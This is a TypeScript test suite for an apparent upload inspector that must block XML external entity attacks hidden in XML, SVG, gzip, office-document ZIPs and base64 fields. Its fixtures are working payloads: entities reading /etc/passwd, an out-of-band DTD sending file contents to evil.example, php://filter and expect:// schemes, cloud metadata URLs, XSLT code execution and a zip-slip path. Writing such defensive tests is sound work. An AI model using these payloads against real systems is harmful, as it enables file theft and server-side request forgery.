import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { deflateRawSync, gzipSync } from 'node:zlib'
import { beginInspection, inspect } from '../src/inspect.ts'

const ENTITY = '<!ENTITY x SYSTEM "file:///etc/hostname">'
const LICENCE = `<!--${' a licence, "quoted" <in> it\'s words ]>'.repeat(400)}-->`

/** Prologs that have a parser fetch something, or grow without end. */
const PROLOGS: Readonly<Record<string, string>> = {
  'an entity': `<!DOCTYPE r [${ENTITY}]>`,
  'an entity with a name in another script':
    '<!DOCTYPE r [<!ENTITY \u4e2d\u6587 SYSTEM "file:///etc/hostname">]>',
  'a parameter entity': '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
  'an entity that writes another': '<!DOCTYPE r [<!ENTITY % a "&#60;!ENTITY b SYSTEM \'x\'>"> %a;]>',
  'entities of entities': '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY x "&a;&a;&a;&a;">]>',
  'a foreign type': '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">',
  'a foreign type with a public id':
    '<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://evil.example/x.dtd">',
  'a host that only begins as a known one': '<!DOCTYPE r SYSTEM "http://www.w3.org.evil.example/x.dtd">',
  'a known host as a user': '<!DOCTYPE r SYSTEM "http://www.w3.org:x@evil.example/x.dtd">',
  'a scheme that Java opens': '<!DOCTYPE r SYSTEM "netdoc:/etc/hostname">',
  'a long comment before': `${LICENCE}<!DOCTYPE r [${ENTITY}]>`,
  'a long comment within': `<!DOCTYPE r [${LICENCE}${ENTITY}]>`,
  'an instruction before': `<?a ${'b '.repeat(6000)}?><!DOCTYPE r [${ENTITY}]>`,
  'line ends before': `${'\n'.repeat(20_000)}<!DOCTYPE r [${ENTITY}]>`,
  'line ends within': `<!DOCTYPE r [${ENTITY.replaceAll(' ', '\n'.repeat(300))}]>`,
}

interface Entry {
  readonly name: string
  readonly content: Buffer
  readonly isStored?: boolean
}

/** A ZIP archive; `said` is what local headers say of how entries are stored, whatever they are. */
function zip(entries: readonly Entry[], said?: number): Buffer {
  return Buffer.concat(
    entries.map(({ name, content, isStored = false }) => {
      const stored = isStored ? content : deflateRawSync(content)
      const header = Buffer.alloc(30)
      header.write('PK\u0003\u0004', 'latin1')
      header.writeUInt16LE(said ?? (isStored ? 0 : 8), 8)
      header.writeUInt16LE(Buffer.byteLength(name), 26)
      return Buffer.concat([header, Buffer.from(name), stored])
    }),
  )
}

const TYPES: Entry = {
  name: '[Content_Types].xml',
  content: Buffer.from(
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
  ),
}
const PICTURE: Entry = {
  name: 'word/media/a.png',
  content: Buffer.from([0x89, 0x50, 0x4e, 0x47, ...Array.from({ length: 4000 }, (_, i) => (i * 7919) & 255)]),
  isStored: true,
}

function inUtf16(text: string): Buffer {
  return Buffer.from(`\ufeff${text}`, 'utf16le')
}

/** Files in which programs find a document. */
const FILES: Readonly<Record<string, readonly [name: string, write: (document: string) => Buffer]>> = {
  XML: ['a.xml', document => Buffer.from(document)],
  'a drawing': ['a.svg', document => Buffer.from(document)],
  'a document with a name of its own': ['a.drawio', document => Buffer.from(document)],
  'a document called a picture': ['a.png', document => Buffer.from(document)],
  'UTF-16': ['a.xml', inUtf16],
  'a compressed drawing': ['a.svgz', document => gzipSync(document)],
  'a compressed site map': ['sitemap.xml.gz', document => gzipSync(document)],
  docx: ['a.docx', d => zip([TYPES, PICTURE, { name: 'word/document.xml', content: Buffer.from(d) }])],
  'xlsx, stored': [
    'a.xlsx',
    d => zip([TYPES, { name: 'xl/workbook.xml', content: Buffer.from(d), isStored: true }]),
  ],
  'pptx in UTF-16': ['a.pptx', d => zip([TYPES, { name: 'ppt/p.xml', content: inUtf16(d) }])],
  'odt with a name that tells nothing': ['a.odt', d => zip([{ name: 'a.bin', content: Buffer.from(d) }])],
  'epub, called stored': ['a.epub', d => zip([TYPES, { name: 'c.opf', content: Buffer.from(d) }], 0)],
}

function upload(name: string, content: Buffer): string {
  const head = `--b\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\nContent-Type: application/x-any\r\n\r\n`
  const body = Buffer.concat([Buffer.from(head), content, Buffer.from('\r\n--b--\r\n')])
  const headers = ['content-type', 'multipart/form-data; boundary=b']
  return inspect({ method: 'POST', target: '/import', headers, body }).verdict
}

function put(name: string, content: Buffer): string {
  const headers = ['content-type', 'application/octet-stream']
  return inspect({ method: 'PUT', target: `/files/${name}`, headers, body: content }).verdict
}

function post(type: string, body: string): string {
  const headers = ['content-type', type]
  return inspect({ method: 'POST', target: '/import', headers, body: Buffer.from(body) }).verdict
}

/** Fields in which applications take a file as base64. */
const VALUES: Readonly<Record<string, (content: Buffer) => string>> = {
  JSON: content => post('application/json', JSON.stringify({ file: content.toString('base64') })),
  'JSON, base64url': content => post('application/json', JSON.stringify([content.toString('base64url')])),
  'a data URL': content =>
    post(
      'application/json',
      JSON.stringify({ a: { b: `data:application/zip;base64,${content.toString('base64')}` } }),
    ),
  'a form': content =>
    post('application/x-www-form-urlencoded', `a=1&f=${encodeURIComponent(content.toString('base64'))}`),
  'an element': content => post('application/xml', `<r><data>\n  ${content.toString('base64')}\n</data></r>`),
}

describe('files whose documents have a parser fetch something', () => {
  for (const [what, prolog] of Object.entries(PROLOGS))
    test(what, () => {
      for (const [kind, [name, write]] of Object.entries(FILES)) {
        assert.equal(upload(name, write(`${prolog}<r>&x;</r>`)), 'block', kind)
        if (name.endsWith('x')) assert.equal(put(name, write(`${prolog}<r>&x;</r>`)), 'block', `${kind}, put`)
      }
    })

  test('a prolog without end in an archive is beyond a bound', () => {
    const endless = zip([{ name: 'a.xml', content: Buffer.from(`${' '.repeat(1 << 20)}<r/>`) }])
    assert.equal(upload('a.docx', endless), 'too-big')
  })

  test('elements and stylesheets', () => {
    const far = '<p>words</p>'.repeat(2_000)
    const sheet = (within: string): string =>
      `<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0">${far}${within}</x:stylesheet>`
    for (const document of [
      `<r xmlns:q="http://www.w3.org/2001/XInclude">${far}<q:include parse="text" href="file:///etc/hostname"/></r>`,
      `<r>${far}<include href="/etc/hostname" xmlns="http://www.w3.org/2001/XInclude"/></r>`,
      sheet("<a b=\"{document('a.xml')}{document('http://evil.example/')}\"/>"),
      sheet('<x:import href="http://evil.example/a.xsl"/>'),
      sheet('<m:script implements-prefix="u" language="C#"/>'),
      sheet('<a xmlns:o="http://www.oracle.com/XSL/Transform/java/java.lang.Runtime"/>'),
      sheet('<s:result-document href="file:///tmp/a"/>'),
      `<svg xmlns="http://www.w3.org/2000/svg">${far}<use href="file:///etc/hostname"/></svg>`,
    ]) {
      assert.equal(
        upload('a.xml', Buffer.from(document)),
        'block',
        document.slice(0, 80) + document.slice(-120),
      )
      assert.equal(upload('a.xml', inUtf16(document)), 'block')
      const entry = { name: 'word/document.xml', content: Buffer.from(document) }
      assert.equal(upload('a.docx', zip([TYPES, entry, PICTURE])), 'block', 'far into an entry')
      for (const [carrier, verdict] of Object.entries(VALUES))
        assert.equal(verdict(Buffer.from(document)), 'block', `${carrier}: ${document.slice(-120)}`)
    }
  })

  test('archives and long documents in base64, wherever a field holds one', () => {
    for (const prolog of Object.values(PROLOGS)) {
      const document = Buffer.from(`<?xml version="1.0"?>${prolog}<r>&x;</r>`)
      for (const content of [
        document,
        gzipSync(document),
        zip([{ name: 'a.xml', content: document }]),
        zip([TYPES, PICTURE, { name: 'word/document.xml', content: document }]),
        zip([{ name: 'xl/workbook.xml', content: document, isStored: true }, TYPES]),
      ])
        for (const [carrier, verdict] of Object.entries(VALUES))
          assert.equal(verdict(content), 'block', `${carrier}: ${content.toString('latin1', 0, 80)}`)
    }
  })

  test('an archive in base64 that would be unpacked outside of its folder', () => {
    const escaping = zip([TYPES, { name: '../../../var/www/a.txt', content: Buffer.from('a') }])
    for (const [carrier, verdict] of Object.entries(VALUES)) assert.equal(verdict(escaping), 'block', carrier)
  })
})

describe('what is read of a file is bounded', () => {
  test('a prolog that does not end is refused as too much to read, in a file and in an archive', () => {
    const content = Buffer.from(`${'<!---->'.repeat(20_000)}<!DOCTYPE r [${ENTITY}]>`)
    assert.equal(upload('a.xml', content), 'too-big')
    assert.equal(upload('a.docx', zip([TYPES, { name: 'a/b.xml', content }])), 'too-big')
  })

  test('each entry of an archive, and each document, counts, so that slices end', () => {
    const spent = (content: Buffer, names = 'filename="a.zip"'): number => {
      const body = Buffer.concat([
        Buffer.from(`--b\r\nContent-Disposition: form-data; name="f"; ${names}\r\n\r\n`),
        content,
        Buffer.from('\r\n--b--\r\n'),
      ])
      const headers = ['content-type', 'multipart/form-data; boundary=b']
      const ongoing = beginInspection({ method: 'POST', target: '/x', headers, body })
      ongoing.finish()
      return ongoing.spent
    }
    const entries = (count: number): Buffer =>
      zip(Array.from({ length: count }, () => ({ name: 'a', content: Buffer.from('<a/>'), isStored: true })))
    assert.ok(spent(entries(2_000)) - spent(entries(1_000)) > 1_000 * 8_000)
    const document = Buffer.from(`<svg>${' '.repeat(100_000)}`)
    const plain = Buffer.alloc(document.length, 'a')
    const one = (content: Buffer): Buffer => zip([{ name: 'a.svg', content, isStored: true }])
    assert.ok(spent(one(document)) - spent(one(plain)) > 8 * 4_096)
    const names = Array.from({ length: 400 }, (_, i) => `filename=a${i}`).join(';')
    assert.ok(spent(document, names) < 2 * spent(document), 'read once under all names')
  })
})

describe('honest files', () => {
  for (const [name, document] of [
    [
      'a.svg',
      '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY ns_ai "http://ns.adobe.com/a/">]><svg xmlns="&ns_svg;"><use href="#a"/></svg>',
    ],
    [
      'fonts.conf',
      '<?xml version="1.0"?><!DOCTYPE fontconfig SYSTEM "urn:fontconfig:fonts.dtd"><fontconfig/>',
    ],
    [
      'manifest.xml',
      '<!DOCTYPE manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><manifest/>',
    ],
    [
      'a.xhtml',
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd"><html/>',
    ],
    [
      'a.xsl',
      '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="../common.xsl"/><xsl:value-of select="document(\'names.xml\')/a"/></xsl:stylesheet>',
    ],
    ['about-xxe.md', `<p>An attack:</p><!DOCTYPE r [${ENTITY}]>`],
    ['a.dtd', '<!ENTITY % xhtml PUBLIC "-//W3C//ELEMENTS XHTML 1.0//EN" "xhtml.mod"> %xhtml;'],
  ] as const)
    test(name, () => {
      const content = Buffer.from(document)
      assert.equal(upload(name, content), 'pass')
      assert.equal(upload('a.docx', zip([TYPES, PICTURE, { name: 'a/b.xml', content }, TYPES])), 'pass')
      assert.equal(upload(`${name}.gz`, gzipSync(content)), 'pass')
      for (const [carrier, verdict] of Object.entries(VALUES))
        assert.equal(verdict(zip([TYPES, PICTURE, { name: 'a/b.xml', content }])), 'pass', carrier)
    })
})

describe('a file of declarations, which documents include', () => {
  const passwd = '<!ENTITY % file SYSTEM "file:///etc/passwd">'
  const attacks: Readonly<Record<string, string>> = {
    'of an error that quotes a file': `${passwd}\n<!ENTITY % eval "<!ENTITY &#x25; error SYSTEM 'file:///nonexistent/%file;'>">\n%eval;\n%error;`,
    'that sends a file': `<?xml version="1.0" encoding="UTF-8"?>\n<!ENTITY % all "<!ENTITY send SYSTEM 'http://evil.example/?%file;'>">\n%all;`,
    'with what another read as a scheme': `<!-- a -->\n<!ENTITY % eval '<!ENTITY &#37; leak SYSTEM "%data;:///">'>\n%eval;`,
    'that opens a file of the system': passwd,
    'that opens one of Windows': '<!ENTITY % data SYSTEM "file:///c:/windows/win.ini">',
    'that has PHP encode one': '<!ENTITY % d SYSTEM "php://filter/convert.base64-encode/resource=index.php">',
  }
  for (const [kind, dtd] of Object.entries(attacks)) {
    test(`is refused: one ${kind}`, () => {
      assert.equal(upload('x.dtd', Buffer.from(dtd)), 'block')
      assert.equal(upload('x', Buffer.from(dtd)), 'block')
    })
  }

  const honest: Readonly<Record<string, string>> = {
    'that names its modules':
      '<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "xhtml-lat1.ent">\n%HTMLlat1;\n<!ELEMENT a (b|c)*>\n<!ATTLIST a id ID #IMPLIED>',
    'on the web':
      '<!ENTITY % mathml PUBLIC "-//W3C//DTD MathML 3.0//EN" "http://www.w3.org/Math/DTD/mathml3/mathml3.dtd">\n%mathml;',
    'of a shared folder':
      '<!ENTITY % docbook SYSTEM "file:///usr/share/xml/docbook/schema/dtd/4.5/docbookx.dtd">\n%docbook;',
    'with parts of models':
      '<!ENTITY % inline "#PCDATA | a | b">\n<!ENTITY % block "(p | div | %inline;)*">\n<!ENTITY lt "&#38;#60;">\n<!ELEMENT p (%inline;)*>',
  }
  for (const [kind, dtd] of Object.entries(honest)) {
    test(`passes: one ${kind}`, () => assert.equal(upload('x.dtd', Buffer.from(dtd)), 'pass'))
  }
})

describe('what a document of an office program is made of', () => {
  const odt = (href: string): Buffer =>
    zip([
      { name: 'mimetype', content: Buffer.from('application/vnd.oasis.opendocument.text'), isStored: true },
      {
        name: 'content.xml',
        content: Buffer.from(
          `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><text:section text:name="a"><text:section-source xlink:href="${href}" xlink:type="simple"/></text:section></office:document-content>`,
        ),
      },
    ])
  test('is refused where it is a file of the system, or a metadata service', () => {
    for (const href of [
      'file:///etc/passwd',
      '/proc/self/environ',
      'http://169.254.169.254/latest/',
      'expect://id',
    ])
      assert.equal(upload('a.odt', odt(href)), 'block', href)
  })
  test('passes where it is a document', () => {
    for (const href of [
      '../chapter-2.odt',
      'file:///home/ann/book/chapter-2.odt',
      'https://docs.example/a.odt',
    ])
      assert.equal(upload('a.odt', odt(href)), 'pass', href)
  })
})
